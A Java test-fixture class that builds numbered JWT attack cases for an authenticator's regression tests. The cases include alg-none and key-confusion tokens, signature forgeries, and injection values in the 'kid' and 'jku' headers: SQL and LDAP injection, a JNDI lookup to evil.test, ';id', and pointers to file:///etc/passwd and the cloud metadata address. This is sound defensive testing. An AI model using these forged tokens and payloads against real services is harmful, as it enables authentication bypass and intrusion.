package io.hauberk.identity;

import static io.hauberk.identity.Forgeries.bleichenbacher;
import static io.hauberk.identity.Forgeries.join;
import static io.hauberk.identity.Forgeries.paddedHash;
import static io.hauberk.identity.Forgeries.withModulusAdded;
import static io.hauberk.identity.Forgeries.withOctets;
import static io.hauberk.identity.Forgeries.withOrderAdded;
import static io.hauberk.identity.Forgeries.withoutLeadingZero;
import static io.hauberk.identity.TestKeys.EC1;
import static io.hauberk.identity.TestKeys.EC384;
import static io.hauberk.identity.TestKeys.ED1;
import static io.hauberk.identity.TestKeys.RSA1;
import static io.hauberk.identity.TestKeys.RSA2;
import static io.hauberk.identity.TestKeys.encode;
import static io.hauberk.identity.TestKeys.set;
import static io.hauberk.identity.TestToken.NOW;
import static io.hauberk.identity.TestToken.eddsa;
import static io.hauberk.identity.TestToken.es256;
import static io.hauberk.identity.TestToken.hs256;
import static io.hauberk.identity.TestToken.t0;

import io.hauberk.request.HandClock;
import io.hauberk.request.RequestHead;
import java.math.BigInteger;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.UnaryOperator;

/** The recipes of {@code attacks/jwt-cases.md} as requests, by the number of their row. */
final class JwtCases {

  /** A request, and what the service trusts when it comes. */
  record Attempt(RequestHead head, String keySet, UnaryOperator<IssuerProfile.Builder> profile) {

    /** The answer; the key set may be refused, which is what some rows are about. */
    Authentication answer() {
      Authenticator authenticator =
          keySet.equals(TestKeys.TRUSTED) && profile == TRUSTED
              ? USUAL
              : authenticator(keySet, profile); // keys cost time
      return authenticator.authenticate(head);
    }
  }

  private static final UnaryOperator<IssuerProfile.Builder> TRUSTED = UnaryOperator.identity();
  private static final Authenticator USUAL = authenticator(TestKeys.TRUSTED, TRUSTED);

  private static Authenticator authenticator(
      String keySet, UnaryOperator<IssuerProfile.Builder> profile) {
    IssuerProfile.Builder builder =
        IssuerProfile.builder("main")
            .issuer(TestToken.ISSUER)
            .audience(TestToken.AUDIENCE)
            .algorithms(JwsAlgorithm.RS256, JwsAlgorithm.ES256, JwsAlgorithm.EDDSA)
            .keys(KeySource.jwks(TestKeys.octets(keySet)));
    return Authenticator.builder()
        .profile(profile.apply(builder).build())
        .profile(
            IssuerProfile.builder("other")
                .issuer("https://b.example")
                .audience(TestToken.AUDIENCE)
                .keys(KeySource.jwks(TestKeys.octets(set(TestKeys.rsaJwk("rsa1", RSA2, "RS256")))))
                .build())
        .clock(HandClock.at("2026-01-01T00:00:00Z"))
        .build();
  }

  private static final String T0 = t0().sign();
  private static final BigInteger P256_ORDER =
      new BigInteger("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16);

  private final Map<String, List<Attempt>> rows = new LinkedHashMap<>();

  static Map<String, List<Attempt>> all() {
    JwtCases cases = new JwtCases();
    cases.controls();
    cases.none();
    cases.confusion();
    cases.keyQuality();
    cases.keySelection();
    cases.headerParameters();
    cases.encoding();
    cases.signatures();
    cases.times();
    cases.names();
    cases.nesting();
    cases.carriage();
    return cases.rows;
  }

  private void row(int id, String... tokens) {
    row(id, Arrays.stream(tokens).map(TestHead::bearing).toArray(TestHead[]::new));
  }

  private void row(int id, TestHead... heads) {
    for (TestHead head : heads) {
      attempt(id, new Attempt(head, TestKeys.TRUSTED, TRUSTED));
    }
  }

  /** With one more key beside the trusted ones. */
  private void rowWithKey(int id, String jwk, String... tokens) {
    String keys = TestKeys.TRUSTED.replace("]}", "," + jwk + "]}");
    for (String token : tokens) {
      attempt(id, new Attempt(TestHead.bearing(token), keys, UnaryOperator.identity()));
    }
  }

  private void attempt(int id, Attempt attempt) {
    rows.computeIfAbsent(String.format(Locale.ROOT, "J%03d", id), key -> new ArrayList<>())
        .add(attempt);
  }

  private static String json(String text) {
    return '"' + text + '"';
  }

  private static TestToken alg(String name) {
    return t0().head("alg", json(name));
  }

  private static TestToken kid(String name) {
    return t0().head("kid", json(name));
  }

  private void controls() {
    row(1, T0);
    row(2, es256().sign());
    row(3, eddsa().sign());
    row(4, t0().claim("aud", "[\"https://other.example\",\"https://api.example\"]").sign());
    row(5, t0().head("typ", json("application/at+jwt")).sign());
    row(6, t0().head("typ", json("AT+JWT")).sign());
    row(7, t0().head("foo", "1").claim("x", "{\"y\":[1,null]}").sign());
    row(8, t0().claim("exp", (NOW + 300) + ".5").sign());
    row(
        9,
        t0().rawHeader("{ \"kid\" : \"rsa1\",\n\t\"typ\":\"at+jwt\" , \"alg\":\"RS256\" }").sign());
  }

  private void none() {
    List<String> spellings = List.of("none", "None", "NONE", "nOnE");
    for (int i = 0; i < spellings.size(); i++) {
      row(10 + i, alg(spellings.get(i)).signingInput() + ".");
    }
    row(14, alg("none").signingInput() + T0.substring(T0.lastIndexOf('.')));
    row(15, t0().signingInput() + ".");
    row(16, t0().signingInput());
    row(17, t0().head("alg", null).sign());
    row(18, alg("").sign());
    for (String alg : List.of("null", "[\"RS256\"]", "{\"name\":\"RS256\"}", "256")) {
      row(19, t0().head("alg", alg).sign());
    }
    row(20, alg(" RS256").sign(), alg("RS256 ").sign());
    row(21, alg("rs256").sign());
    row(22, alg("RS256\\u0000").sign(), alg("RS256\\u0000none").sign());
    row(
        23,
        alg("RS\\uFF12\\uFF15\\uFF16").sign(),
        alg("no\\u200Bne").sign(),
        alg("n\\u043Ene").sign());
    row(24, alg("\\u0052S256").sign());
  }

  private void confusion() {
    TestToken hs = alg("HS256");
    String pem = TestKeys.pem(RSA1);
    byte[] spki = RSA1.getPublic().getEncoded();
    byte[] modulus = TestKeys.unsigned(TestKeys.modulus(RSA1));
    row(25, hs.sign(hs256(TestKeys.octets(pem))));
    for (byte[] secret :
        List.of(
            TestKeys.octets(pem.strip()),
            TestKeys.octets(pem.replace("\n", "\r\n")),
            spki,
            Arrays.copyOfRange(spki, 24, spki.length), // PKCS#1 inside of SubjectPublicKeyInfo
            modulus,
            TestKeys.octets(TestKeys.rsaJwk("rsa1", RSA1, "RS256")),
            TestKeys.octets(encode(modulus)))) {
      row(26, hs.sign(hs256(secret)));
    }
    byte[] spkiEc = EC1.getPublic().getEncoded();
    byte[] point = Arrays.copyOfRange(spkiEc, spkiEc.length - 65, spkiEc.length);
    TestToken hsEc = alg("HS256").head("kid", json("ec1"));
    row(
        27,
        hsEc.sign(hs256(Arrays.copyOfRange(point, 1, 33))),
        hsEc.sign(hs256(Arrays.copyOfRange(point, 1, 65))),
        hsEc.sign(hs256(point)));
    row(28, hs.sign(hs256(new byte[0])), hs.sign(hs256(TestKeys.octets("secret"))));
    row(29, es256().head("kid", json("rsa1")).sign());
    attempt(
        30,
        new Attempt(
            TestHead.bearing(alg("PS256").sign(TestToken.ps256(RSA1, 32))),
            TestKeys.TRUSTED,
            p -> p.algorithms(JwsAlgorithm.RS256, JwsAlgorithm.PS256)));
    row(31, t0().sign(TestToken.ps256(RSA1, 32)));
    attempt(
        31,
        new Attempt(
            TestHead.bearing(alg("PS256").sign(TestToken.rs256(RSA1))),
            set(TestKeys.rsaJwk("rsa1", RSA1, "PS256")),
            p -> p.algorithms(JwsAlgorithm.PS256)));
    row(32, alg("RS384").sign(TestToken.by("SHA384withRSA", RSA1.getPrivate())));
    row(33, t0().sign(TestToken.by("SHA1withRSA", RSA1.getPrivate())));
    rowWithKey(
        34,
        TestKeys.ecJwk("ec384", EC384, "ES384"),
        es256().head("kid", json("ec384")).sign(TestToken.es256(EC1)));
    rowWithKey(
        35,
        TestKeys.ecJwk("ec384", EC384, "ES384"),
        alg("ES384")
            .head("kid", json("ec384"))
            .sign(TestToken.by("SHA384withECDSAinP1363Format", EC384.getPrivate())));
    row(36, alg("ES256K").head("kid", json("ec1")).sign(TestToken.es256(EC1)));
    rowWithKey(
        37,
        TestKeys.okpJwk("x1", "X25519", TestKeys.edOctets(ED1)),
        eddsa().head("kid", json("x1")).sign());
    row(38, alg("Ed25519").head("kid", json("ed1")).sign(TestToken.ed25519(ED1)));
    row(39, alg("RSA-OAEP").sign(), alg("dir").sign(), alg("A128GCM").sign());
  }

  private void keyQuality() {
    String other = TestKeys.rsaJwk("k", RSA2, "RS256");
    String byOther = kid("k").sign(TestToken.rs256(RSA2));
    rowWithKey(40, other.replace("\"use\":\"sig\"", "\"use\":\"enc\""), byOther);
    for (String ops : List.of("[\"sign\"]", "[\"encrypt\"]")) {
      rowWithKey(41, other.replace("\"use\":\"sig\"", "\"key_ops\":" + ops), byOther);
    }
    rowWithKey(
        42,
        other.replace("\"use\":\"sig\"", "\"use\":\"sig\",\"key_ops\":[\"deriveKey\"]"),
        byOther);
    KeyPair weak = TestKeys.rsa(1024, BigInteger.valueOf(65537));
    rowWithKey(43, TestKeys.rsaJwk("k", weak, "RS256"), kid("k").sign(TestToken.rs256(weak)));
    for (int exponent : new int[] {1, 2, 65536}) {
      rowWithKey(
          44,
          TestKeys.rsaJwk("k", TestKeys.modulus(RSA2), BigInteger.valueOf(exponent), "RS256"),
          kid("k").with(paddedHash(kid("k").signingInput())));
    }
    BigInteger giant = BigInteger.TWO.pow(16384).subtract(BigInteger.ONE);
    rowWithKey(45, TestKeys.rsaJwk("k", giant, BigInteger.valueOf(65537), "RS256"), byOther);
    row(46, alg("HS256").sign(hs256(new byte[16])));
    String byEc = es256().head("kid", json("k")).sign();
    byte[] one = TestKeys.padded(BigInteger.ONE, 32);
    byte[] zero = new byte[32];
    byte[] high = new byte[32];
    Arrays.fill(high, (byte) 0xff);
    rowWithKey(47, TestKeys.ecJwk("k", "P-256", one, one, "ES256"), byEc);
    rowWithKey(47, TestKeys.ecJwk("k", "P-256", zero, zero, "ES256"), byEc);
    rowWithKey(47, TestKeys.ecJwk("k", "P-256", high, one, "ES256"), byEc);
    rowWithKey(47, TestKeys.ecJwk("k", "P-256", one, high, "ES256"), byEc);
    rowWithKey(48, TestKeys.ecJwk("k", "P-256", new byte[31], one, "ES256"), byEc);
  }

  private void keySelection() {
    row(49, t0().head("kid", null).sign());
    rowWithKey(50, TestKeys.rsaJwk("k", RSA2, "RS256"), t0().head("kid", null).sign());
    row(51, kid("nope").sign());
    for (int i = 0; i < 1000; i++) {
      row(52, t0().head("kid", json("random-" + i)).signingInput() + "." + "A".repeat(342));
    }
    row(53, alg("HS256").head("kid", json("../../../../dev/null")).sign(hs256(new byte[0])));
    row(
        54,
        alg("HS256")
            .head("kid", json("/proc/sys/kernel/randomize_va_space"))
            .sign(hs256(TestKeys.octets("2\n"))));
    row(55, kid("x' UNION SELECT 'AAAA'--").sign(), kid("1 OR 1=1").sign());
    for (String evil :
        List.of("*)(uid=*))(|(uid=*", "${jndi:ldap://evil.test/a}", ";id", "`id`", "<script>")) {
      row(56, kid(evil).sign());
    }
    row(57, kid("x\\r\\n2026-01-01 INFO all is well").sign());
    row(58, kid("rsa1\\u0000.evil").sign(), kid("RSA1").sign(), kid("rsa1 ").sign());
    for (String odd : List.of("1", "[\"rsa1\"]", "{}", "null")) {
      row(59, t0().head("kid", odd).sign());
    }
    row(60, kid("k".repeat(100_000)).sign());
    TestToken.Signer evil = TestToken.rs256(RSA2);
    row(61, kid("evil").head("jku", json("https://evil.test/jwks.json")).sign(evil));
    for (String jku :
        List.of(
            "https://issuer.example@evil.test/",
            "https://issuer.example.evil.test/",
            "https://issuer.example/redirect?to=//evil.test",
            "file:///etc/passwd",
            "http://169.254.169.254/")) {
      row(62, kid("evil").head("jku", json(jku)).sign(evil));
    }
    row(63, t0().head("jku", json("https://issuer.example/jwks.json")).sign());
    row(64, kid("evil").head("x5u", json("https://evil.test/c.pem")).sign(evil));
    row(65, kid("evil").head("jwk", TestKeys.rsaJwk("evil", RSA2, "RS256")).sign(evil));
    row(
        66,
        alg("HS256")
            .head("jwk", "{\"kty\":\"oct\",\"k\":\"c2VjcmV0\"}")
            .sign(hs256(TestKeys.octets("secret"))));
    row(67, kid("evil").head("x5c", "[\"MIIB\"]").sign(evil));
    row(68, kid("evil").head("x5c", "[\"%%%\"]").sign(evil));
    rowWithKey(
        69,
        TestKeys.rsaJwk("k", RSA2, "RS256"),
        kid("k").head("x5t", json("AAAA")).head("x5t#S256", json("AAAA")).sign());
    rowWithKey(70, TestKeys.rsaJwk("rsa1", RSA2, "RS256"), T0);
    rowWithKey(71, "{\"kty\":\"oct\",\"kid\":\"h\",\"k\":\"c2VjcmV0\"}", T0);
    rowWithKey(71, TestKeys.rsaJwk("k", RSA2, "RS256").replace("{", "{\"d\":\"AQAB\","), T0);
    row(72, t0().sign(TestToken.rs256(RSA2))); // the issuer 'other' calls that key rsa1 too
  }

  private void headerParameters() {
    row(73, t0().head("exp", "" + (NOW + 300)).head("crit", "[\"exp\"]").sign());
    row(74, t0().head("x-unknown", "1").head("crit", "[\"x-unknown\"]").sign());
    row(75, t0().head("crit", "[]").sign());
    for (String crit : List.of("\"b64\"", "null", "[1]")) {
      row(76, t0().head("b64", "true").head("crit", crit).sign());
    }
    row(77, t0().head("crit", "[\"alg\"]").sign());
    row(78, t0().head("crit", "[\"b64\"]").sign());
    row(79, t0().head("b64", "true").head("crit", "[\"b64\",\"b64\"]").sign());
    TestToken unencoded = t0().head("b64", "false").head("crit", "[\"b64\"]");
    String header = unencoded.signingInput().substring(0, unencoded.signingInput().indexOf('.'));
    row(
        80,
        TestToken.sign(header + "." + unencoded.payload(), TestToken.rs256(RSA1)),
        unencoded.sign());
    row(81, t0().head("b64", "false").sign());
    row(82, t0().head("zip", json("DEF")).sign());
    row(83, t0().head("enc", json("A256GCM")).sign());
    row(84, t0().head("iss", json("https://evil.example")).sign());
  }

  private void encoding() {
    String rest = ",\"typ\":\"at+jwt\",\"kid\":\"rsa1\"}";
    row(
        85,
        t0().rawHeader("{\"alg\":\"RS256\",\"alg\":\"none\"" + rest).sign(),
        t0().rawHeader("{\"alg\":\"none\",\"alg\":\"RS256\"" + rest).sign());
    for (String twice :
        List.of("\"exp\":1", "\"sub\":\"admin\"", "\"aud\":\"https://other.example\"")) {
      row(86, t0().rawPayload(t0().payload().replace("{", "{" + twice + ",")).sign());
    }
    row(87, t0().rawPayload(t0().payload().replace("{", "{\"\\u0065xp\":1,")).sign());
    row(88, t0().claim("x", "{\"y\":{\"z\":1,\"z\":2}}").sign());
    for (String odd : List.of("[]", "\"x\"", "1", "null", "")) {
      row(89, t0().rawHeader(odd).sign(), t0().rawPayload(odd).sign());
    }
    String head = "{\"alg\":\"RS256\",\"typ\":\"at+jwt\",\"kid\":\"rsa1\"}";
    for (String odd :
        List.of(
            head + "x",
            head + head,
            head.replace("{", "{/* */"),
            head.replace('"', '\''),
            head.replace("}", ",}"),
            head.replace("}", ",\"x\":NaN}"))) {
      row(90, t0().rawHeader(odd).sign());
    }
    String claims = t0().claim("name", "\"\u00e4\"").payload();
    for (Charset charset :
        List.of(StandardCharsets.UTF_16, StandardCharsets.UTF_16LE, StandardCharsets.ISO_8859_1)) {
      row(91, t0().rawPayload(claims.getBytes(charset)).sign());
    }
    row(91, t0().rawPayload("\uFEFF" + claims).sign());
    row(91, t0().rawPayload(withOctets(claims, 0xC1, 0xA1)).sign()); // 'a' overlong
    row(91, t0().rawPayload(withOctets(claims, 0xED, 0xA0, 0x80)).sign()); // U+D800
    row(92, t0().claim("sub", "\"user\\u0000admin\"").sign());
    row(93, t0().claim("sub", "\"\\uD800\"").sign());
    row(94, t0().claim("x", "[".repeat(100_000) + "]".repeat(100_000)).sign());
    row(
        95,
        t0().claim("exp", "9".repeat(1_000_000)).sign(),
        t0().claim("exp", "1e999999999").sign());
    textOf();
  }

  private void textOf() {
    TestToken.Signer rs256 = TestToken.rs256(RSA1);
    String head = t0().signingInput().substring(0, t0().signingInput().indexOf('.'));
    String body = t0().signingInput().substring(head.length() + 1);
    row(
        96,
        T0 + "==",
        TestToken.sign(head + "=." + body, rs256),
        TestToken.sign(head + "." + body + "==", rs256));
    String foreign = T0.replace('-', '+').replace('_', '/');
    row(97, foreign);
    row(
        98,
        T0.replaceFirst("\\.", " ."),
        T0.replaceFirst("\\.", "\t."),
        T0.replaceFirst("\\.", "\r\n."));
    row(98, TestHead.authorization("Bearer \t" + T0));
    row(99, T0.substring(0, T0.length() - 1) + (char) (T0.charAt(T0.length() - 1) + 1));
    row(100, T0.substring(0, T0.length() - 1), "A" + T0.substring(3));
    row(101, T0 + "\u00e4", T0.replaceFirst("\\.", "\0."), T0.replaceFirst("\\.", "%2E"));
    String signature = T0.substring(T0.lastIndexOf('.') + 1);
    row(102, T0 + ".x", "....", T0 + ".", "." + T0, head + ".." + signature);
    row(103, head + ".." + signature);
    row(
        104,
        "{\"protected\":\""
            + head
            + "\",\"payload\":\""
            + body
            + "\",\"signature\":\""
            + signature
            + "\"}");
    row(105, "", "null", "undefined", "Bearer");
    row(106, t0().claim("x", json("x".repeat(65_536))).sign());
    row(106, t0().claim("x", json("x".repeat(1_048_576))).sign());
    row(107, ".".repeat(1_000_000), encode(new byte[1_048_576]) + "." + body + "." + signature);
  }

  private void signatures() {
    byte[] good = t0().signature(TestToken.rs256(RSA1));
    for (int i = 0; i < good.length; i++) {
      byte[] flipped = good.clone();
      flipped[i] ^= 1;
      row(108, t0().with(flipped));
    }
    row(108, t0().claim("jti", json("t1")).with(good), t0().head("foo", "1").with(good));
    BigInteger n = P256_ORDER;
    row(109, es256().with(new byte[64]));
    row(109, rs(BigInteger.ZERO, n), rs(n, BigInteger.ZERO), rs(n, n), rs(BigInteger.ONE, n));
    row(110, es256().sign(TestToken.by("SHA256withECDSA", EC1.getPrivate())));
    byte[] ec = es256().signature(TestToken.es256(EC1));
    row(
        111,
        es256().with(Arrays.copyOfRange(ec, 1, 64)),
        es256().with(Arrays.copyOf(ec, 65)),
        es256().with(Arrays.copyOf(ec, 66)),
        es256().with(Arrays.copyOf(ec, 132)));
    BigInteger r = TestToken.unsigned(Arrays.copyOf(ec, 32));
    BigInteger s = TestToken.unsigned(Arrays.copyOfRange(ec, 32, 64));
    row(112, es256().with(join(r, n.subtract(s))));
    row(113, es256().with(join(n.add(BigInteger.ONE), s)));
    row(113, es256().with(join(r, n.add(BigInteger.ONE))));
    row(114, t0().with(join(new byte[1], good)), t0().with(join(new byte[2], good)));
    row(114, withoutLeadingZero());
    row(115, withModulusAdded());
    KeyPair cube = TestKeys.rsa(2048, BigInteger.valueOf(3));
    rowWithKey(
        116,
        TestKeys.rsaJwk("k", cube, "RS256"),
        kid("k").with(bleichenbacher(kid("k").signingInput())));
    for (int salt : new int[] {0, 20}) {
      attempt(
          117,
          new Attempt(
              TestHead.bearing(alg("PS256").sign(TestToken.ps256(RSA1, salt))),
              set(TestKeys.rsaJwk("rsa1", RSA1, "PS256")),
              p -> p.algorithms(JwsAlgorithm.PS256)));
    }
    byte[] ed = eddsa().signature(TestToken.ed25519(ED1));
    row(118, eddsa().with(withOrderAdded(ed)));
    byte[] identity = new byte[32];
    identity[0] = 1;
    TestToken byNobody = eddsa().head("kid", json("k"));
    byte[] anything = join(identity, new byte[32]);
    rowWithKey(119, TestKeys.okpJwk("k", "Ed25519", identity), byNobody.with(anything));
    rowWithKey(119, TestKeys.okpJwk("k", "Ed25519", new byte[32]), byNobody.with(anything));
    byte[] beyond = new byte[32]; // y = p + 1, another spelling of 1
    Arrays.fill(beyond, (byte) 0xff);
    beyond[0] = (byte) 0xee;
    beyond[31] = 0x7f;
    rowWithKey(120, TestKeys.okpJwk("k", "Ed25519", beyond), byNobody.with(anything));
    byte[] mac = alg("HS256").signature(hs256(new byte[32]));
    row(121, alg("HS256").with(Arrays.copyOf(mac, 16)), alg("HS256").with(Arrays.copyOf(mac, 33)));
    row(122, alg("HS256").with(new byte[32]));
  }

  private static String rs(BigInteger r, BigInteger s) {
    return es256().with(join(r, s));
  }

  private void times() {
    row(123, t0().claim("exp", null).sign());
    row(124, t0().claim("iat", NOW - 400).claim("exp", NOW - 61).sign());
    row(125, t0().claim("iat", NOW - 400).claim("exp", NOW - 60).sign());
    row(126, t0().claim("iat", NOW - 400).claim("exp", NOW - 59).sign());
    row(127, t0().claim("exp", NOW).sign());
    for (String late :
        List.of("253402300800", "9007199254740993", "9223372036854775807", "1e308")) {
      row(128, t0().claim("exp", late).sign());
    }
    row(129, t0().claim("exp", "9223372036854775808").sign());
    row(
        129,
        t0().claim("exp", BigInteger.TWO.pow(64).add(BigInteger.valueOf(NOW + 300)).toString())
            .sign());
    for (String odd : List.of("\"1767229200\"", "true", "null", "[" + (NOW + 300) + "]", "{}")) {
      row(130, t0().claim("exp", odd).sign());
    }
    for (String early : List.of("-1", "0", "-0")) {
      row(131, t0().claim("exp", early).sign());
    }
    row(132, t0().claim("exp", NOW * 1000).sign());
    row(133, t0().claim("exp", json("2099-01-01T00:00:00Z")).sign());
    row(134, t0().claim("nbf", NOW + 61).sign());
    row(135, t0().claim("nbf", NOW + 60).sign());
    for (String odd : List.of("\"1\"", "null", "1e400")) {
      row(136, t0().claim("nbf", odd).sign());
    }
    row(137, t0().claim("nbf", NOW + 301).sign());
    row(138, t0().claim("iat", NOW + 3600).claim("exp", NOW + 7200).sign());
    attempt(
        139,
        new Attempt(
            TestHead.bearing(t0().claim("iat", NOW - 86_400).sign()),
            TestKeys.TRUSTED,
            p -> p.maxAge(Duration.ofHours(1))));
    row(140, t0().claim("iat", json("1")).sign());
  }

  private void names() {
    for (String iss : Arrays.asList(null, "null", "\"\"", "[\"https://issuer.example\"]")) {
      row(141, t0().claim("iss", iss).sign());
    }
    row(142, t0().claim("iss", json("https://issuer.example/")).sign());
    for (String iss :
        List.of(
            "https://ISSUER.example",
            "http://issuer.example",
            "https://issuer.example:443",
            "https://issuer.example.evil.test",
            "https://issuer.example@evil.test",
            " https://issuer.example")) {
      row(143, t0().claim("iss", json(iss)).sign());
    }
    row(144, t0().claim("iss", json("https://issu\\u0435r.example")).sign());
    row(144, t0().claim("iss", json("https://issue\\u0301r.example")).sign());
    row(145, t0().claim("aud", null).sign());
    for (String aud : List.of("[]", "\"\"", "null", "{}", "1", "[null]")) {
      row(146, t0().claim("aud", aud).sign());
    }
    row(147, t0().claim("aud", json("https://other.example")).sign());
    for (String aud :
        List.of(
            "https://api.example.evil.test",
            "https://api.exampl",
            "https://api.example/",
            "https://api.example/v1",
            "https://API.example")) {
      row(148, t0().claim("aud", json(aud)).sign());
    }
    row(149, t0().claim("aud", "[\"https://api.example\",1]").sign());
    row(150, t0().claim("aud", json("*")).sign());
    row(151, t0().claim("aud", "[" + "\"a\",".repeat(99_999) + "\"a\"]").sign());
    TestToken idToken =
        t0().head("typ", json("JWT")).claim("nonce", json("n")).claim("at_hash", json("h"));
    row(152, idToken.claim("aud", json("client-1")).sign());
    row(153, idToken.claim("aud", "[\"client-1\",\"https://api.example\"]").sign());
    row(154, t0().head("typ", null).sign());
    for (String typ : List.of("logout+jwt", "dpop+jwt", "secevent+jwt", "at+jwt; charset=utf-8")) {
      row(155, t0().head("typ", json(typ)).sign());
    }
    for (String typ : List.of("1", "[\"at+jwt\"]", "null")) {
      row(156, t0().head("typ", typ).sign());
    }
    row(157, t0().head("typ", json("rt+jwt")).sign(), t0().head("typ", json("code+jwt")).sign());
    for (String sub : Arrays.asList(null, "42", "\"\"")) {
      row(158, t0().claim("sub", sub).sign());
    }
    row(159, t0().claim("scope", "[\"read\"]").sign());
    row(159, t0().claim("scope", json("read  write")).sign());
    row(159, t0().claim("scope", json("readall")).sign());
    row(160, t0().claim("cnf", "{\"x5t#S256\":\"AAAA\"}").sign());
    row(160, t0().claim("cnf", "{\"jkt\":\"AAAA\"}").sign());
  }

  private void nesting() {
    row(162, t0().head("cty", json("JWT")).rawPayload(T0).sign());
    row(163, t0().rawPayload(T0).sign());
    String deep = T0;
    for (int i = 0; i < 12; i++) { // each level adds a third: more would be refused for its length
      deep = t0().head("cty", json("JWT")).rawPayload(deep).sign();
    }
    row(164, deep);
    String jwe =
        encode(TestKeys.octets("{\"alg\":\"dir\",\"enc\":\"A128GCM\"}")) + "..AAAA.AAAA.AAAA";
    row(165, jwe);
    row(
        166,
        encode(TestKeys.octets("{\"alg\":\"RSA-OAEP\",\"enc\":\"A128GCM\"}"))
            + ".AAAA.AAAA.AAAA.AAAA");
    row(
        167,
        encode(TestKeys.octets("{\"alg\":\"dir\",\"enc\":\"A128GCM\",\"zip\":\"DEF\"}"))
            + "..AAAA.AAAA.AAAA");
    row(
        168,
        encode(
                TestKeys.octets(
                    "{\"alg\":\"PBES2-HS256+A128KW\",\"enc\":\"A128GCM\",\"p2c\":2147483647}"))
            + ".AAAA.AAAA.AAAA.AAAA");
  }

  private void carriage() {
    for (String scheme : List.of("bearer", "BEARER", "bEaReR")) {
      row(169, TestHead.authorization(scheme + " " + T0));
    }
    row(170, TestHead.authorization("Bearer  " + T0));
    row(171, TestHead.authorization("Bearer\t" + T0));
    for (String value : List.of("Bearer" + T0, T0, "Bearer", "Bearer ", "")) {
      row(172, TestHead.authorization(value));
    }
    row(173, TestHead.authorization("Bearer " + T0 + " "));
    for (String rest :
        List.of(T0 + " extra", T0 + "," + T0, T0 + ", Basic xxx", '"' + T0 + '"', "token=" + T0)) {
      row(174, TestHead.bearing(rest));
    }
    String good = "Bearer " + T0;
    row(
        175,
        TestHead.authorization(good, "Bearer x.y.z"),
        TestHead.authorization("Bearer x.y.z", good),
        TestHead.authorization(good, good));
    row(176, TestHead.authorization("Basic dTpw", good));
    for (String scheme : List.of("DPoP", "JWT", "Token", "Digest")) {
      row(177, TestHead.authorization(scheme + " " + T0));
    }
    row(178, TestHead.field("Accept", "*/*").to("/orders?access_token=" + T0));
    row(
        179,
        TestHead.bearing(T0).to("/orders?access_token=" + T0),
        TestHead.bearing(T0).to("/orders?a=1&access%5Ftoken=x"));
    row(180, TestHead.field("Content-Type", "application/x-www-form-urlencoded"));
    row(
        181,
        TestHead.field("Cookie", "access_token=" + T0),
        TestHead.field("X-Access-Token", T0),
        TestHead.field("X-Forwarded-Authorization", "Bearer " + T0),
        TestHead.field("Proxy-Authorization", "Bearer " + T0));
    row(183, TestHead.authorization("Bearer\r\n " + T0), TestHead.authorization(good + "\r\n x"));
  }
}
